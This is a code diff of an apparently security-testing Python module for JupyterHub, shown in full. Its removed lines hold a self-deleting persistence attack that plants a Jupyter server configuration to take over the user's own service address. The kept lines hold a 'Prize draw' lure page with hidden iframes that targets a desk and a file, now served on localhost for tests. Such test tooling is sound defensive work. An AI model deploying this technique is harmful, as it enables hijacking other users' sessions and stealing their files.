@@ -1,41 +1,11 @@
-"""Runs in a user's kernel: leaves what takes the user's own address at the next start.
+"""What a hostile user shows at an address of her own: everything that a script can try."""
 
-Jupyter runs the configuration that it finds in its owner's home. This one never comes back:
-it serves an attack at the port that leads to the user's own address, so that what the proxy
-then shows there is entirely the user's. It removes itself, so that the start after is as before.
-"""
+from __future__ import annotations
 
-SERVER = r"""
-import os
+import threading
+from collections.abc import Iterator
+from contextlib import contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
-from urllib.parse import urlsplit
-
-class Handler(BaseHTTPRequestHandler):
-    def do_GET(self):
-        raw = PAGE.encode()
-        self.send_response(200)
-        self.send_header("Content-Type", "text/html; charset=utf-8")
-        self.send_header("Content-Length", str(len(raw)))
-        self.end_headers()
-        self.wfile.write(raw)
-
-    def log_message(self, *args):
-        pass
-
-os.unlink(__file__)
-own = urlsplit(os.environ["JUPYTERHUB_SERVICE_URL"])
-ThreadingHTTPServer((own.hostname, own.port), Handler).serve_forever()
-"""
-
-CELL = r"""
-from pathlib import Path
-from jupyter_core.paths import jupyter_config_dir
-
-place = Path(jupyter_config_dir()) / "jupyter_server_config.py"
-place.parent.mkdir(parents=True, exist_ok=True)
-place.write_text(CONFIGURATION)
-print("left at", place)
-"""
 
 PAGE = r"""<!doctype html><title>Prize draw</title><h1>You have won</h1>
 <iframe name="hole" hidden></iframe><iframe id="desk" src="DESK/desk/"></iframe>
@@ -97,8 +67,25 @@ window.done = attack();
 </script>"""
 
 
-def code(desk: str, permit: str, file: str) -> str:
-    """What the hostile user runs in a cell, before starting the server once more."""
-    page = PAGE.replace("DESK", desk).replace("PERMIT", permit).replace("FILE", file)
-    configuration = f"PAGE = {page!r}\n{SERVER}"
-    return f"CONFIGURATION = {configuration!r}\n{CELL}"
+@contextmanager
+def served(desk: str, permit: str, file: str) -> Iterator[int]:
+    """Serve the page, aimed at a desk, a permit and a file; yields the port."""
+    page = PAGE.replace("DESK", desk).replace("PERMIT", permit).replace("FILE", file).encode()
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            self.send_response(200)
+            self.send_header("Content-Type", "text/html; charset=utf-8")
+            self.send_header("Content-Length", str(len(page)))
+            self.end_headers()
+            self.wfile.write(page)
+
+        def log_message(self, *_: object) -> None:
+            """Stay silent."""
+
+    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
+        thread = threading.Thread(target=server.serve_forever)
+        thread.start()
+        yield server.server_address[1]
+        server.shutdown()
+        thread.join()
